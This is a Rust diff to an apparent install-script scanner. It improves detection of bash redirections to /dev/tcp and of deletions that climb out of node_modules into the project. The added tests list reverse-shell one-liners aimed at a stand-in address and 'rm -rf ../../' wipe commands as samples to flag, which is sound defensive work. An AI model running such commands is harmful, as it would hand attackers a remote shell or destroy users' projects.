@@ -66,7 +66,8 @@ pub(crate) enum Behaviour {
     },
     /// Windows binaries that run other code (LOLBins).
     LivingOffTheLand { tool: String },
-    /// Deletes the home directory or the filesystem root.
+    /// Deletes the home directory, the filesystem root, or the project the
+    /// package is installed in.
     Wipes { target: String },
     /// Shuts the machine down or restarts it.
     PowersOff { command: String },
@@ -293,10 +294,15 @@ fn tokenize(script: &str, substitutions: &mut Vec<String>) -> Vec<Token> {
             }
             '&' => {
                 end_word(&mut tokens, &mut word, &mut expands, &mut in_word);
-                // `2>&1` is a redirection, not a separator.
-                if tokens.last().is_some_and(
-                    |token| matches!(token, Token::Word(text, _) if text.ends_with('>')),
-                ) {
+                // `2>&1`, `>& file` are redirections, not separators: the `&`
+                // continues the operator's word.
+                if let Some(Token::Word(text, _)) = tokens.last()
+                    && text.ends_with('>')
+                {
+                    if let Some(Token::Word(text, carried)) = tokens.pop() {
+                        word = text;
+                        expands = carried;
+                    }
                     word.push('&');
                     in_word = true;
                 } else {
@@ -451,11 +457,11 @@ fn command_from(
             }
             continue;
         }
-        let operator = word.trim_start_matches(['1', '2', '&']);
+        let operator = word.trim_start_matches(|c: char| c.is_ascii_digit() || c == '&');
         if operator.starts_with('>') || operator.starts_with('<') {
             // `> nul` names its target next; `>nul`, `2>&1` carry it.
-            skip_next = matches!(operator, ">" | ">>" | "<");
-            let target = operator.trim_start_matches(['>', '<']);
+            skip_next = matches!(operator, ">" | ">>" | "<" | ">&" | ">|");
+            let target = operator.trim_start_matches(['>', '<', '&', '|']);
             if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
                 sockets.push(target.to_owned());
             }
@@ -896,7 +902,7 @@ pub(crate) fn behaviours(script: &Script) -> Vec<(Behaviour, String)> {
                 matches!(
                     argument.as_str(),
                     "/" | "/*" | "~" | "~/" | "~/*" | "$HOME" | "${HOME}" | "$HOME/" | "$HOME/*"
-                )
+                ) || leaves_the_project(argument)
             })
         {
             found.push((
@@ -999,6 +1005,18 @@ fn base_name(path: &str) -> String {
         .to_owned()
 }
 
+/// A path that ends two or more levels above where it starts (`$DIR/../..`,
+/// `../../*`): from a package in `node_modules/<name>`, the project itself or
+/// what holds it. Cleaning a cache under it names the cache.
+fn leaves_the_project(path: &str) -> bool {
+    let path = path.trim_end_matches(['/', '*']);
+    let segments: Vec<&str> = path
+        .split(['/', '\\'])
+        .filter(|part| !part.is_empty())
+        .collect();
+    segments.iter().filter(|part| **part == "..").count() >= 2 && segments.last() == Some(&"..")
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -1049,6 +1067,40 @@ mod tests {
                 !kinds(command).contains(&"powers-off".to_owned()),
                 "{command}"
             );
+        }
+    }
+
+    /// Every way bash writes a redirection to `/dev/tcp` opens a connection.
+    #[test]
+    fn reverse_shells_through_dev_tcp_in_every_redirection_spelling() {
+        for script in [
+            "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'",
+            "bash -i >&/dev/tcp/192.0.2.7/4444 0>&1",
+            "bash -i &> /dev/tcp/192.0.2.7/4444 0>&1",
+            "sh -i > /dev/tcp/192.0.2.7/4444 2>&1 0>&1",
+            "exec 5<>/dev/tcp/192.0.2.7/4444",
+        ] {
+            assert!(
+                kinds(script).contains(&"exfiltrates".to_owned()),
+                "{script}"
+            );
+        }
+        assert!(!kinds("make build >& build.log").contains(&"exfiltrates".to_owned()));
+    }
+
+    /// From `node_modules/<name>`, `../..` is the project: deleting it is sabotage;
+    /// deleting something named below it is cleaning up.
+    #[test]
+    fn deleting_the_project_around_the_package_is_wiping() {
+        for script in ["rm -fr $DIR/../..", "rm -rf ../../", "rm -rf ../../../*"] {
+            assert!(kinds(script).contains(&"wipes".to_owned()), "{script}");
+        }
+        for script in [
+            "rm -rf ../../node_modules/.cache",
+            "rm -rf ..",
+            "rm -rf build",
+        ] {
+            assert!(!kinds(script).contains(&"wipes".to_owned()), "{script}");
         }
     }
 
